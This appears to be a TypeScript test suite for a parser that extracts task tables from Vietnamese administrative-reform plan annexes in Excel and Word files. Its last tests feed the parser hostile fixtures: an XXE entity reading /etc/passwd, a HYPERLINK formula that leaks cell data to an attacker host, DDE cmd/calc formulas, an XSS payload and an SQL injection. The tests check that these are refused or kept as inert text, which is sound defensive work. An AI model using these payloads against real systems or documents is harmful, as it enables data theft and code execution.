    : docxOf([[['UBND TỈNH\nSố: 01/KH-SLĐTBXH', 'Lào Cai, ngày 05 tháng 01 năm 2026']], 'KẾ HOẠCH', 'Cải cách hành chính năm 2026', 'I. MỤC ĐÍCH', '1. Mục đích, nhiệm vụ', [['Nơi nhận', 'GIÁM ĐỐC']], 'Phụ lục', body, 'Ghi chú'])
  // The thread is left out here: it takes longer to start than all the rest.
  const annex = understand(await (kind === 'xlsx' ? readSheets : readTables)(bytes), units, { year: 2026 })
  const names = style === 'letters' ? ['A', 'B'] : style === 'title alone' ? groupTitles.map(([, title]) => title.toUpperCase()) : ['I', 'II']
  expect(lines(annex).map(line => line.replace(/ \?$/, ''))).toEqual(expected.map(line => line.replace('G1', names[0]!).replace('G2', names[1]!)))
  expect(annex.groups.map(({ domain }) => domain)).toEqual([officialDomains[0], officialDomains[2]])
  expect(annex.document).toMatchObject({ number: '01/KH-SLĐTBXH', date: '2026-01-05', year: 2026 })
})

test('two and three header rows, column numbers, headers repeated, totals, hidden rows, dates and formulas of the workbook', async () => {
  const head: Made[][] = [
    [{ text: 'Số\nTT', down: 2 }, { text: 'Nhiệm vụ', down: 2 }, { text: 'Chỉ tiêu', over: 2 }, null, { text: 'Phân công', over: 2 }, null, { text: 'Thời gian', over: 2 }, null, { text: 'Kinh phí (triệu đồng)', down: 2 }],
    [null, null, 'ĐVT', 'Số lượng', 'Chủ trì', 'Phối hợp', 'Bắt đầu', 'Hoàn thành', null],
  ]
  const annex = await read(xlsxOf([{ name: 'Bìa', rows: [['Kế hoạch']] }, { name: 'Cũ', hiddenSheet: true, rows: [['TT', 'Nhiệm vụ', 'Chủ trì', 'Thời hạn'], [1, 'Năm ngoái', 'VP', 'Quý I']] }, {
    name: 'PL 2026', hidden: [9], rows: [
      ['PHỤ LỤC NHIỆM VỤ NĂM 2026'], ...head, ['(1)', '(2)', '(3)', '(4)', '(5)', '(6)', '(7)', '(8)', '(9)'],
      [{ text: '1', bold: true }, { text: 'Cải cách thủ tục hành chính', bold: true }],
      ['1.1', 'Hồ sơ giải quyết đúng hạn', '%', 99, { text: 'Các phòng, đơn vị', down: 2 }, 'VP Sở', '01/01/2026', { text: '', day: '2026-12-31', format: 'dd/mm/yyyy' }, null],
      ['1.2', 'Tập huấn nghiệp vụ', 'lớp', 2, null, 'P. GDNN', 'Tháng 4', { text: '', day: '2026-06-01', format: 'mmm-yy' }, { text: '12.5', formula: '5*2.5' }],
      ...head, ['1.3', 'Việc bị ẩn', null, null, 'VP'], ['1.4', 'Tỷ lệ hài lòng', '%', { text: '', formula: 'A1' }, 'VP', 'P. NCC', null, 'Quý IV', null],
      ['Tổng cộng', null, null, null, null, null, null, null, { text: '12.5', formula: 'SUM(I5:I9)' }], [], ['(*) Ghi chú'], [null, 'NGƯỜI LẬP', null, null, null, 'GIÁM ĐỐC'],
    ],
  }]), 'a.xlsx')
  expect(lines(annex)).toEqual([
    '1.1 1 Hồ sơ giải quyết đúng hạn > * + VP > 2026-12-31 > 99', '1.2 1 Tập huấn nghiệp vụ > * + GD > 2026-06 > 2',
    '1.4 1 Tỷ lệ hài lòng > VP + NCC > 2026-Q4 > - ?target',
  ].map(line => expect.stringMatching(new RegExp(`^${line.replace(/[.*+?]/g, sign => `\\${sign}`)}`))))
  expect(annex.rows[1]!.budget).toEqual({ original: '12.5', amount_vnd: 12_500_000 })
  expect(annex.rows[0]!.deadline).toMatchObject({ kind: 'date', from: '2026-01-01' })
  expect(annex.not_rows.map(({ why }) => why)).toEqual(['Dòng đánh số cột.', 'Đầu bảng lặp lại.', 'Đầu bảng lặp lại.', 'Dòng bị ẩn trong tệp.', 'Dòng tổng cộng.', 'Chú thích.', 'Chữ sau bảng.'])
  expect(annex.warnings.join(' ')).toMatch(/Trang bị ẩn.*“Cũ”/)
  expect(annex.warnings.join(' ')).toContain('1 dòng bị ẩn')
})

test('merged cells in every direction, sub-items, what stands above, quarters marked with a cross', async () => {
  const merged = await read(xlsxOf([{ name: 'PL', rows: [
    ['TT', 'Nhiệm vụ', 'Đơn vị chủ trì', 'Đơn vị phối hợp', 'Thời hạn', 'Ghi chú'], ['I', { text: 'Cải cách thể chế', over: 5 }],
    [1, 'Nhiệm vụ một', { text: 'Các phòng, đơn vị', over: 2 }, null, { text: 'Quý III', down: 2 }, { text: 'Chung', down: 4 }], [2, 'Nhiệm vụ hai', 'VP', 'P. NCC'],
    ['II', { text: 'Cải cách TTHC', over: 4 }], [3, 'Tỷ lệ hồ sơ trực tuyến', 'VP Sở', 'Thanh tra', '30/6/2026'], [null, '- Lĩnh vực người có công đạt 75%'], [null, '- Lĩnh vực việc làm đạt 90%'],
    [4, 'Nâng chất lượng'], ['a)', 'Không để hồ sơ quá hạn', 'P. NCC', 'VP', 'Thường xuyên'], [5, 'Nhiệm vụ chưa phân công'], [6, { text: 'Việc nhiều dòng', down: 2 }, 'VP', 'TT DVVL', '30/9'], [null, null, null, 'TT CTXH', null],
  ] }]), 'a.xlsx')
  expect(lines(merged)).toEqual([
    '1 I Nhiệm vụ một > * +  > 2026-Q3 > -', '2 I Nhiệm vụ hai > VP + NCC > 2026-Q3 > -', '3 II Tỷ lệ hồ sơ trực tuyến > VP + TTr > 2026-06-30 > -',
    ' II Lĩnh vực người có công đạt 75% > VP +  > 2026-06-30 > 75 ?lead,deadline', ' II Lĩnh vực việc làm đạt 90% > VP +  > 2026-06-30 > 90 ?lead,deadline',
    'a II Không để hồ sơ quá hạn > NCC + VP > continuous > 0', '5 II Nhiệm vụ chưa phân công > null +  > undefined > - ?lead,deadline', '6 II Việc nhiều dòng > VP + DVVL CTXH > 2026-09-30 > - ?coordinators',
  ])
  expect(merged.rows.map(({ parent }) => parent)).toEqual([null, null, null, '3', '3', '4', null, null])
  expect(merged.headings).toMatchObject([{ no: '4', title: 'Nâng chất lượng', group: 'II' }])
  const crosses = await read(xlsxOf([{ name: 'PL', rows: [
    ['TT', 'Lĩnh vực', 'Nhiệm vụ', 'Đơn vị chủ trì', { text: 'Thời gian thực hiện', over: 4 }], [null, null, null, null, 'Quý I', 'Quý II', 'Quý III', 'Quý IV'],
    [1, { text: 'Cải cách thể chế', down: 2 }, 'Rà soát văn bản', 'Thanh tra', null, 'x', 'x'], [2, null, 'Theo dõi thi hành', 'Thanh tra', null, null, null, 'x'], [3, 'Cải cách chế độ công vụ', 'Bồi dưỡng công chức', 'VP', 'x'],
  ] }]), 'a.xlsx')
  expect(crosses.rows.map(({ deadline, domain }) => [deadline?.value, domain])).toEqual([['2026-Q3', officialDomains[1]], ['2026-Q4', officialDomains[1]], ['2026-Q1', officialDomains[4]]])
})

test('Word: automatic numbers, tracked changes, hidden text, a table that goes on, two annexes', async () => {
  const tracked = '<w:p><w:r><w:t>Rà soát </w:t></w:r><w:del><w:r><w:delText>50</w:delText></w:r></w:del><w:ins><w:r><w:t>100</w:t></w:r></w:ins><w:r><w:t>% TTHC</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>ẩn</w:t></w:r></w:p>'
  const levels = '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl>'
  const annex = await read(docxOf(['PHỤ LỤC I', 'NHIỆM VỤ CCHC NĂM 2026', [
    ['STT', 'Nhiệm vụ, giải pháp', 'Đơn vị chủ trì, phối hợp', 'Thời gian'], [{ text: '', list: '1' }, 'Ban hành kế hoạch', 'VP Sở; các phòng, đơn vị', '31/01/2026'], [{ text: '', list: '1' }, tracked, 'Phòng NCC\nPhối hợp: VP Sở, Thanh tra', 'Quý III'],
  ], 'II. CẢI CÁCH TÀI CHÍNH CÔNG', [[{ text: '', list: '1' }, 'Báo cáo thu, chi', 'P. KH-TC', '15/12'], [{ text: '', list: '1' }, 'Công khai dự toán', 'KHTC', 'Hằng quý']], 'PHỤ LỤC II', [['TT', 'Chỉ tiêu', 'ĐVT', 'Kế hoạch 2026', 'Đơn vị chủ trì'], ['1', 'Hồ sơ đúng hạn', '%', '100', 'VP']]], { numbering: levels }), 'a.docx')
  expect(lines(annex)).toEqual([
    '1 - Ban hành kế hoạch > VP + * > 2026-01-31 > -', '2 - Rà soát 100% TTHC > NCC + VP TTr > 2026-Q3 > 100', '3 II Báo cáo thu, chi > KHTC +  > 2026-12-15 > -', '4 II Công khai dự toán > KHTC +  > quarterly > -',
  ])
  expect(annex.warnings.join(' ')).toContain('theo dõi thay đổi')
  expect(annex.warnings.join(' ')).toContain('cũng có bảng nhiệm vụ, chưa được đọc')
})

test('what is no annex, disguised or hostile is refused with one sentence', async () => {
  expect(await refusal(read(new Uint8Array(), 'a.xlsx'))).toContain('Tệp rỗng')
  expect(await refusal(read(xlsxOf([{ name: 'A', rows: [['STT', 'Họ và tên', 'Chức vụ', 'Đơn vị'], [1, 'A', 'B', 'C']] }]), 'a.xlsx'))).toContain('Không thấy bảng phân công')
  expect(await refusal(read(docxOf(['x'], { doctype: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' }), 'a.docx'))).toContain('DOCTYPE')
  expect(await refusal(read(docxOf(['chỉ có chữ']), 'a.docx'))).toContain('Không thấy bảng phân công')
  const renamed = await read(docxOf([[['TT', 'Nhiệm vụ', 'Đơn vị chủ trì', 'Thời hạn'], ['1', 'Rà soát văn bản', 'VP', 'Quý I']]]), 'a.xlsx')
  expect(renamed.rows).toHaveLength(1)
  expect(renamed.warnings[0]).toContain('nội dung là tệp Word')
})

const office = realData('office')
if (office) {
  const folder = mkdtempSync(join(tmpdir(), 'annex-'))
  test.each(['phu_luc_phan_cong_cchc_2026.xlsx', 'ke_hoach_nang_cao_chi_so_cchc_2026.docx'])('the real annex %s is read as a clerk would', file => {
    const said = spawnSync(process.execPath, ['src/start.js', 'annex/command.ts', join(office, file), '--units', join(office, 'units.json')], { encoding: 'utf8' })
    expect(said.stderr).toBe('')
    writeFileSync(join(folder, file), said.stdout)
    const score = JSON.parse(spawnSync(process.execPath, [join(office, 'score.mjs'), join(office, `${file}.expected.json`), join(folder, file), '--json'], { encoding: 'utf8' }).stdout) as Record<string, number>
    console.log(`${file}: ${JSON.stringify(score)}`)
    expect(score.cells).toBeGreaterThanOrEqual(0.97)
    expect(score.silent).toBeLessThanOrEqual(3)
    expect(score.doubtful).toBeLessThanOrEqual(0.08)
    expect([score.lost, score.invented]).toEqual([0, 0])
  }, 60_000)

  test('the damaged annexes of the office are refused, or read without running anything', async () => {
    const real = (name: string) => read(new Uint8Array(readFileSync(join(office, 'damaged', name))), name)
    for (const name of ['phu_luc_nen_bat_thuong.xlsx', 'phu_luc_bi_cat.xlsx', 'tep_rong.xlsx', 'bien_ban_thuc_the_ngoai.docx', 'bien_ban_dat_ten_sai.xlsx']) expect(await refusal(real(name)), name).toMatch(/^Tệp|^Không thấy bảng/)
    const formulas = await real('phu_luc_cong_thuc_doc_hai.xlsx')
    expect(formulas.rows.map(({ note }) => note)).toEqual(['=HYPERLINK("http://attacker.invalid/?d="&B2,"Xem chi tiết")', "=cmd|'/C calc'!A0", '=1+1', "@SUM(1+1)*cmd|'/C calc'!A0", '<img src=x onerror=alert(1)>', "'; DROP TABLE tasks; --"])
    expect(formulas.rows[2]!.doubtful).toEqual(['note'])
    const large = await real('phu_luc_20000_dong.xlsx')
    expect(large.rows).toHaveLength(20_000)
    expect(large.rows.filter(({ target }) => target?.number != null)).toHaveLength(13_443)
  }, 120_000)
}
